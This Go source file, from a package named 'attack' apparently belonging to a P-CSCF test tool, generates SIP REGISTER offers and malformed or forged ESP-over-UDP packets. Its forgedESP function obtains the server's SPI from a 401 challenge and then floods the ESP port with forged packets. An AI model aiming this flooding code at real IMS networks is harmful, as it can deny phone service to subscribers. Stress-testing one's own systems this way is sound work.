package attack

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"time"

	"github.com/gocscf/gocscf/ims/sip"
	"github.com/gocscf/gocscf/ipsec"
)

// securityClient is what a phone offers, with other SPIs and ports each time.
func securityClient(n int64, mode ipsec.Mode) string {
	spi, port := 1000+2*n%1_000_000_000, 1024+2*(n%30_000)
	return fmt.Sprintf("Security-Client: ipsec-3gpp;alg=hmac-sha-1-96;ealg=aes-cbc;prot=esp;mod=%v;spi-c=%d;spi-s=%d;port-c=%d;port-s=%d", mode, spi, spi+1, port, port+1)
}

// strangeESP is number n of what comes to a port of ESP in UDP and is of no set.
func strangeESP(n int64) []byte {
	switch n % 8 {
	case 0:
		return []byte{0xff} // RFC 3948 2.3
	case 1:
		return make([]byte, 32) // IKE (RFC 3948 2.2)
	case 2:
		return make([]byte, n/8%8)
	}
	return espPacket(uint32(0x80000000+n), uint32(n), 1000)
}

// espPacket is one with zeroes for what is encrypted and for the ICV.
func espPacket(spi, seq uint32, length int) []byte {
	b := make([]byte, length)
	binary.BigEndian.PutUint32(b, spi)
	binary.BigEndian.PutUint32(b[4:], seq)
	return b
}

// forgedESP has a crook challenged, and sends packets of the set that he now has.
func (f *flooding) forgedESP() error {
	p, err := newPhone(f.target, f.target.Crooks[0], 0, false, func(net.Conn, *sip.Message) {})
	if err != nil {
		return err
	}
	defer p.close()
	offer := p.lines("REGISTER", "sip:"+f.target.Domain, p.callID, "<"+p.impu()+">", "Contact: "+p.contact(), "Expires: 600", "Authorization: "+p.initial(),
		securityClient(0, ipsec.Transport), "Require: sec-agree", "Proxy-Require: sec-agree", "Supported: path")
	spi, err := p.offered(f.ctx, offer)
	if err != nil {
		return err
	}
	c, err := net.DialUDP("udp", nil, net.UDPAddrFromAddrPort(f.target.ESP))
	if err != nil {
		return fmt.Errorf("opening a socket: %w", err)
	}
	defer c.Close()
	for f.next() {
		// Header, IV and ICV are 36 octets; what is between is whole blocks.
		_, _ = c.Write(espPacket(spi, uint32(f.sent.Load()), 8+16+960+12))
	}
	return nil
}

// offered sends a REGISTER until it is challenged, and returns the spi-s of the P-CSCF.
func (p *phone) offered(ctx context.Context, register string) (uint32, error) {
	for range 10 {
		p.write(register)
		m := p.await(time.Second, func(m *sip.Message) bool { return m.Status() >= 200 })
		if m == nil {
			if ctx.Err() != nil {
				return 0, ctx.Err()
			}
			continue
		}
		for line := range m.Values(sip.HSecurityServer) {
			if s, err := sip.ParseSecMechanism(line); err == nil && m.Status() == 401 {
				return s.SPIS, nil
			}
		}
		return 0, fmt.Errorf("asking for an SA set: %d with Security-Server %q", m.Status(), m.Get(sip.HSecurityServer))
	}
	return 0, errors.New("asking for an SA set: no answer to ten REGISTERs")
}
